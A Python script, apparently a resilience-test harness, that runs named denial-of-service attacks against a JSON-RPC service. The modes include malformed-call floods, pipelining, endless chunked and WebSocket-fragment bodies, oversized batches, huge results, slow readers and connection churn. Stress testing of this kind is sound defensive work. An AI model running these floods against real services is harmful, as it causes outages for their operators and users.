"""A hostile client of a running service, until standard input ends: `attack.py NAME HOST PORT PATH KEY`.

It prints a line of JSON when it has begun. A connection that the service closes is opened again after a moment.
"""

import asyncio
import contextlib
import json
import socket
import sys
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace

AGAIN_S = 0.02
HANDSHAKE_S = 0.2
READ_BYTES = 1 << 16
# Calls that a strict upstream rejects, crashes on, or answers without an id.
MALFORMED = (
    b'{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":{}}',
    b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"0x1","data":7},[]]}',
    b'{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{"fromBlock":"0xfffffffffffffffff"}]}',
    b'{"jsonrpc":"2.0","id":[],"method":"eth_chainId","params":[]}',
    b"[" + b",".join([b"{}"] * 100) + b"]",
    b"[" * 5000,
)
MALFORMED_PER_S = 50
COPIES = 64
CHUNKS = 4096
FRAGMENTS = 4096
PARALLEL = 200
BURST_EVERY_S = 1.0
BATCH = 1000
CLIENTS = 64
# Results of eth_getCode are as large as the stub is asked for.
SLOW_READERS = 66
SLOW_RESULT = 30_000_000
SLOW_READ_BYTES, SLOW_EVERY_S = 3072, 5.0
HUGE_BATCH, HUGE_RESULT = 40, 20_000_000
UNKNOWN_KEY = "pk_live_" + "x" * 43
SMALL_CALL = b'{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":["0x%040d","latest"]}' % 7


@dataclass(frozen=True, slots=True)
class Place:
    host: str
    port: int
    path: str
    key: str

    def head(self, method: str, path: str, *more: str) -> bytes:
        lines = (f"{method} {path} HTTP/1.1", f"Host: {self.host}:{self.port}", f"X-API-Key: {self.key}", *more)
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def post(self, body: bytes) -> bytes:
        return self.head("POST", self.path, "Content-Type: application/json", f"Content-Length: {len(body)}") + body


def code_call(number: int, size: int) -> bytes:
    return b'{"jsonrpc":"2.0","id":%d,"method":"eth_getCode","params":["0x%040x","latest"]}' % (number, size)


Flood = Callable[[Place, asyncio.StreamWriter], Coroutine[None, None, None]]
# One client, until its connection is closed.
Client = Callable[[Place], Coroutine[None, None, None]]


async def malformed(place: Place, writer: asyncio.StreamWriter) -> None:
    """Calls that fail, at a steady rate."""
    while True:
        for body in MALFORMED:
            writer.write(place.post(body))
            await asyncio.sleep(1 / MALFORMED_PER_S)


async def pipelined(place: Place, writer: asyncio.StreamWriter) -> None:
    """As many requests ahead of their replies as the service accepts."""
    await flood(writer, place.post(SMALL_CALL) * COPIES)


async def chunks(place: Place, writer: asyncio.StreamWriter) -> None:
    """A body of one-byte chunks for a resource that takes none."""
    writer.write(place.head("GET", "/healthz", "Transfer-Encoding: chunked"))
    await flood(writer, b"1\r\nx\r\n" * CHUNKS)


async def fragments(place: Place, writer: asyncio.StreamWriter) -> None:
    """A WebSocket message of empty fragments that never ends."""
    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
    path = place.path.replace("/rpc/", "/ws/")
    writer.write(place.head("GET", path, *upgrade, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))
    await asyncio.sleep(HANDSHAKE_S)
    writer.write(b"\x01\x80" + bytes(4))
    await flood(writer, (b"\x00\x80" + bytes(4)) * FRAGMENTS)


async def batches(place: Place, writer: asyncio.StreamWriter) -> None:
    """The largest batches, one after another."""
    calls = [
        {"jsonrpc": "2.0", "id": n, "method": "eth_getBalance", "params": [f"0x{n:040x}", "latest"]}
        for n in range(BATCH)
    ]
    await flood(writer, place.post(json.dumps(calls).encode()))


async def database(place: Place, writer: asyncio.StreamWriter) -> None:
    """Reads of a resource in the database: one at a time on each connection, all at the same moment."""
    while True:
        writer.write(place.head("GET", "/v1/wallets"))
        await asyncio.sleep(BURST_EVERY_S)


async def flood(writer: asyncio.StreamWriter, data: bytes) -> None:
    while True:
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0)


def flooding(attack: Flood) -> Client:
    """A client that writes without waiting for replies, and discards them."""

    async def run(place: Place) -> None:
        async with connection(place) as (reader, writer):
            with contextlib.suppress(ExceptionGroup):
                async with asyncio.TaskGroup() as group:
                    attacking = group.create_task(attack(place, writer))
                    while await reader.read(READ_BYTES):
                        pass
                    attacking.cancel()

    return run


def asking(request: Callable[[Place], bytes], *, keeps: bool = True) -> Client:
    """A client that sends one request after the other, on one connection or each on a new one."""

    async def run(place: Place) -> None:
        data = request(place)
        async with connection(place) as (reader, writer):
            while True:
                writer.write(data)
                await read_reply(reader)
                if not keeps:
                    return

    return run


async def slow_reader(place: Place) -> None:
    """A large result, hardly read. The receive buffer is small, so that little of it is in the kernel."""
    loop = asyncio.get_running_loop()
    with socket.socket() as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.setblocking(False)
        await loop.sock_connect(client, (place.host, place.port))
        await loop.sock_sendall(client, place.post(code_call(1, SLOW_RESULT)))
        while True:
            if not await loop.sock_recv(client, SLOW_READ_BYTES):
                return
            await asyncio.sleep(SLOW_EVERY_S)


def huge_batch(place: Place) -> bytes:
    return place.post(b"[" + b",".join(code_call(number, HUGE_RESULT) for number in range(HUGE_BATCH)) + b"]")


@asynccontextmanager
async def connection(place: Place) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection(place.host, place.port)
    try:
        yield reader, writer
    finally:
        writer.close()


async def read_reply(reader: asyncio.StreamReader) -> None:
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    if b"transfer-encoding: chunked" not in head:
        await skip(reader, int(head.partition(b"content-length:")[2].split(b"\r\n")[0]))
        return
    while size := int(await reader.readuntil(b"\r\n"), 16):
        await skip(reader, size + 2)
    await skip(reader, 2)


async def skip(reader: asyncio.StreamReader, size: int) -> None:
    while size:
        if not (data := await reader.read(min(size, READ_BYTES))):
            raise ConnectionError
        size -= len(data)


# Each attack with its number of connections.
ATTACKS: dict[str, tuple[Client, int]] = {
    "malformed": (flooding(malformed), 1),
    "pipelined": (flooding(pipelined), 1),
    "refused": (asking(lambda place: place.post(SMALL_CALL)), CLIENTS),
    "keys": (asking(lambda place: replace(place, key=UNKNOWN_KEY).post(SMALL_CALL)), CLIENTS),
    "churn": (asking(lambda place: place.post(SMALL_CALL), keeps=False), CLIENTS),
    "chunks": (flooding(chunks), 3),
    "fragments": (flooding(fragments), 1),
    "batches": (flooding(batches), 4),
    "huge": (asking(huge_batch), 1),
    "readers": (slow_reader, SLOW_READERS),
    "database": (flooding(database), PARALLEL),
}


async def repeat(client: Client, place: Place) -> None:
    while True:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            await client(place)
        await asyncio.sleep(AGAIN_S)


async def main(name: str, place: Place) -> None:
    client, connections = ATTACKS[name]
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(repeat(client, place))
        print(json.dumps({"attack": name}), flush=True)
        await asyncio.to_thread(sys.stdin.read)
        raise SystemExit


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Place(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5])))
